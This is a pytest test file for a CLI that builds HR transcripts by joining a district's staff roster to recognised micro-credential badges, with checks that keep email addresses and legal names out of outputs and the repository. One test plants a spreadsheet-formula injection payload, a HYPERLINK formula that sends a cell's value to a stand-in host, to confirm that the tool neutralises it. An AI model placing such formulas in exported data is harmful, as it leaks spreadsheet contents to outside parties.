"""`microcred report transcript`: a district's staff list joined to the badges it recognises, on HR's own machine.

The history fixture: dee (north) holds five badges named by salted email hashes, eve (south, which north
recognises) holds badges named by her login, one of them revoked. The staff list in fixtures/roster is
north's: dee by address (in other letter case), eve by login, and Gil, who holds nothing.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from support import FIXTURES, Run, golden, make_repo

GOLDEN = FIXTURES / "golden" / "transcript"
ROSTER = FIXTURES / "roster" / "north.csv"
CREDIT = """credit:
  system: the state licensure system
  units:
    - unit: pdp
      amount: 6
      area: Professional Learning
  filing: Upload the scored rubric within 90 days of earning.
"""
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")


@pytest.fixture
def history(tmp_path: Path) -> Path:
    repo = make_repo(tmp_path / "history", FIXTURES / "history")
    with (repo / "catalog/districts/north.yml").open("a", encoding="utf-8") as district:
        district.write(CREDIT)
    return repo


@pytest.fixture
def roster(tmp_path: Path) -> Path:
    return Path(shutil.copyfile(ROSTER, tmp_path / "staff.csv"))


def rows(run: Run) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(run.out)))


def test_every_recognised_badge_gets_its_employee_and_its_credit(
    history: Path, roster: Path, cli: Callable[..., Run], tmp_path: Path
) -> None:
    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), "--transcripts", str(tmp_path / "out"), cwd=history)
    assert run.code == 0
    golden(GOLDEN / "north.csv", run.out)
    found = rows(run)
    assert [(r["employee_id"], r["credential"], r["unit"], r["amount"], r["credit_area"]) for r in found] == [
        ("N-0041", "alpha", "PDPs", "6", "Professional Learning"),
        ("N-0041", "beta", "PDPs", "6", "Professional Learning"),
        ("N-0041", "gamma", "PDPs", "6", "Professional Learning"),
        ("N-0041", "delta", "PDPs", "6", "Professional Learning"),
        ("N-0041", "epsilon", "PDPs", "6", "Professional Learning"),
        ("N-0042", "alpha", "PDPs", "6", "Professional Learning"),  # eve's revoked beta and south's zeta are not north's
    ]
    assert all(r["badge_page"] == f"https://consortium.example.org/catalog/badges/earned/{r['badge_id']}/" for r in found)
    assert run.err == (
        "microcred: wrote 2 printable transcripts to " + str(tmp_path / "out") + "\n"
        "microcred: 3 roster rows: 2 matched 6 badges; 1 with no badge North District recognises (rows 4)\n"
    )
    pages = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert pages == ["N-0041.html", "N-0042.html"]
    golden(GOLDEN / "N-0041.html", (tmp_path / "out/N-0041.html").read_text())


def test_a_typo_in_an_address_is_reported_by_row_number_alone(history: Path, roster: Path, cli: Callable[..., Run]) -> None:
    roster.write_text(roster.read_text().replace("Dee@North.example.org", "dee@nroth.example.org"))
    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), "--format", "json", cwd=history)
    assert run.code == 0
    assert '"unmatched_rows": [\n    2,\n    4\n  ]' in run.out
    assert run.err.endswith("1 matched 1 badges; 2 with no badge North District recognises (rows 2, 4); 5 recognised badges matched no row "
        "(26a7f2f9-f48f-54d1-9f87-f4d4bf8aa0bb, 439663b4-c7de-55ab-973d-a22279709ac5, 4cf3d817-1ede-557c-be3b-c98e9bb66148, "
        "909a2e35-6cc9-5041-bea5-93c34a82025d, d022ede1-3b8b-5329-8244-fb651c2fd333)\n")  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv", "json", "markdown"])
def test_no_output_holds_an_email_address(history: Path, roster: Path, cli: Callable[..., Run], fmt: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    run = cli(
        "report", "transcript", "--district", "north", "--roster", str(roster), "--format", fmt, "--transcripts", str(out), cwd=history
    )
    assert run.code == 0 and "N-0041" in run.out
    texts = [run.out, run.err, *(p.read_text() for p in out.iterdir())]
    assert [EMAIL.findall(text) for text in texts] == [[] for _ in texts]
    assert not (history / "staff.csv").exists() and not list(history.rglob("N-0041*"))  # nothing written into the repository


def test_the_roster_and_the_transcripts_stay_outside_the_repository(history: Path, roster: Path, cli: Callable[..., Run]) -> None:
    inside = history / "staff.csv"
    shutil.copyfile(roster, inside)
    run = cli("report", "transcript", "--district", "north", "--roster", str(inside), cwd=history)
    assert (run.code, run.out) == (2, "")
    assert "the roster is inside the repository" in run.err
    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), "--transcripts", str(history / "out"), cwd=history)
    assert run.code == 2 and "the folder for the transcripts is inside the repository" in run.err


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "name,email\nDee,dee@north.example.org\n",
            "row 1: no column employee_id, legal_name; the header needs email, employee_id, legal_name",
        ),
        ("email,employee_id,legal_name\ndee@north.example.org,,Dee\n", "row 2: employee_id is empty"),
        ("email,employee_id,legal_name\n\nnot-an-address,N-1,Dee\n", "row 3: email is not an email address"),
        ("email,employee_id,legal_name\n,N-1,Dee\n", "row 2: email is empty (and no login is given)"),
    ],
)
def test_a_broken_roster_is_named_by_row_and_column_never_by_value(
    history: Path, tmp_path: Path, cli: Callable[..., Run], text: str, message: str
) -> None:
    roster = tmp_path / "staff.csv"
    roster.write_text(text)
    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), cwd=history)
    assert (run.code, run.out) == (2, "")
    assert message in run.err and "dee@" not in run.err and "not-an-address" not in run.err


def test_credit_units_show_on_the_district_and_credential_pages(history: Path) -> None:
    from microcred.catalog.validate import validate
    from microcred.site.pages import render

    catalog = validate(history, model=True).catalog
    assert catalog is not None
    pages = render(catalog)
    assert (
        "HR files 6 PDPs per micro-credential, filed under Professional Learning in the state licensure system."
        in pages["catalog/districts/north.md"]
    )
    assert "| [North District](../districts/north.md) | " in pages["catalog/credentials/delta.md"]
    assert " | 6 PDPs (Professional Learning) | " in pages["catalog/credentials/delta.md"]


def test_a_transcript_is_never_written_into_the_repository(history: Path, roster: Path, tmp_path: Path) -> None:
    """`> transcript.csv` in a clone would put legal names in the working tree, one `git add -A` from public."""
    command = [sys.executable, "-m", "microcred", "report", "transcript", "--district", "north", "--roster", str(roster)]
    with (history / "transcript.csv").open("w") as inside:
        run = subprocess.run(command, cwd=history, stdout=inside, stderr=subprocess.PIPE, text=True, check=False)
    assert run.returncode == 2 and "the file stdout is written to is inside the repository" in run.stderr
    assert (history / "transcript.csv").read_text() == ""
    out = tmp_path / "transcript.csv"
    run = subprocess.run([*command, "--output", str(out)], cwd=history, capture_output=True, text=True, check=False)
    assert (run.returncode, run.stdout) == (0, "") and out.read_text().startswith("employee_id,legal_name,")
    run = subprocess.run([*command, "--output", str(history / "t.csv")], cwd=history, capture_output=True, text=True, check=False)
    assert run.returncode == 2 and not (history / "t.csv").exists()


def test_a_title_that_looks_like_a_formula_stays_text_in_a_spreadsheet(history: Path, roster: Path, cli: Callable[..., Run]) -> None:
    credential = history / "catalog/credentials/alpha.yml"
    credential.write_text(
        credential.read_text().replace("title: Alpha\n", 'title: "=HYPERLINK(\\"https://x.example/\\"&B2,\\"Open\\")"\n', 1)
    )
    found = rows(cli("report", "transcript", "--district", "north", "--roster", str(roster), cwd=history))
    assert found[0]["title"] == '\'=HYPERLINK("https://x.example/"&B2,"Open")'


def test_ids_that_differ_only_in_case_get_a_page_each(history: Path, tmp_path: Path, cli: Callable[..., Run]) -> None:
    roster = tmp_path / "staff.csv"
    roster.write_text("email,employee_id,legal_name,login\ndee@north.example.org,a-1,Dee,\n,A-1,Eve,eve\n")
    run = cli("report", "transcript", "--district", "north", "--roster", str(roster), "--transcripts", str(tmp_path / "out"), cwd=history)
    assert run.code == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["A-1.html", "a-1-row2.html"]


def test_a_badge_carrying_an_employees_address_under_another_login_is_not_theirs(
    history: Path, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    """dee's badges carry dee's address; a staff list saying that address is eve's login does not credit them to eve."""
    roster = tmp_path / "staff.csv"
    roster.write_text("email,employee_id,legal_name,login\ndee@north.example.org,N-9,Eve Everett,eve\n")
    found = rows(cli("report", "transcript", "--district", "north", "--roster", str(roster), cwd=history))
    assert [(r["employee_id"], r["credential"]) for r in found] == [("N-9", "alpha")]  # eve's own, by login
